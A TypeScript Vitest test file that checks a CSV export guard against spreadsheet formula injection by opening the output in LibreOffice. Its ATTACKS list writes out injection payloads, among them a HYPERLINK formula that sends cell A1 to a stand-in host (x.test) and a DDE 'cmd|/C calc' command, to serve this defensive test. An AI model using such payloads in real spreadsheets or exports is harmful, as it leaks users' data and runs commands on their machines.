import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { BYTE_ORDER_MARK, csvLine, guardFormula } from '../../../src/main/export/csv.ts'
import { FORMULA_SIGNS, PASSED_OVER } from '../../support/books/formulas.ts'
import { noLibreOffice, openInLibreOffice } from '../../support/books/libre-office.ts'
import { tempFolder } from '../../support/books/open-book.ts'

if (noLibreOffice !== null) console.warn(`Not opened in a real spreadsheet: ${noLibreOffice}.`)

const SPLITS = {
  comma: '44,34,76,1,,1033,false,true',
  'semicolon, French': '59,34,76,1,,1036,false,true',
  tab: '9,34,76,1,,1031,false,true',
} as const

/** Texts that a spreadsheet would run, each with the ways by which it may come to stand at the beginning of a cell. */
const ATTACKS = [...FORMULA_SIGNS].flatMap((sign) => {
  const formula = `${sign}HYPERLINK("http://x.test/?"&A1,"open")`
  return [
    formula,
    `${sign}1+1`,
    `${sign}SUM(A1:A2)`,
    `${sign}cmd|'/C calc'!A0`,
    ...PASSED_OVER.map((passed) => `${passed}${sign}1+1`),
    ...[';', '\t', '\n', '\r', ';"', ';;', '\n '].map((split) => `a${split}${sign}1+1`),
    `a;"${sign}1+1&"`,
  ]
})

test.skipIf(noLibreOffice !== null).each(Object.entries(SPLITS))(
  'opened in LibreOffice by %s, no guarded text is a formula',
  { timeout: 60_000 },
  (_name, filter) => {
    const folder = tempFolder()
    const [open, guarded] = [join(folder, 'open.csv'), join(folder, 'guarded.csv')]
    const written = (guard: (text: string) => string) =>
      BYTE_ORDER_MARK + ATTACKS.map((text) => csvLine(['CF-000001', guard(text), 'end'])).join('')
    writeFileSync(
      open,
      written((text) => text),
    )
    writeFileSync(guarded, written(guardFormula))
    const read = openInLibreOffice([open, guarded], filter)
    const formulas = (name: string) => (read.get(name) ?? []).flat().filter((cell) => cell.formula)
    // Without the guard the same file is full of them, so that this test can see one.
    expect(formulas('open').length).toBeGreaterThan(0)
    expect(read.get('guarded')?.length).toBeGreaterThanOrEqual(ATTACKS.length)
    expect(formulas('guarded')).toEqual([])
  },
)
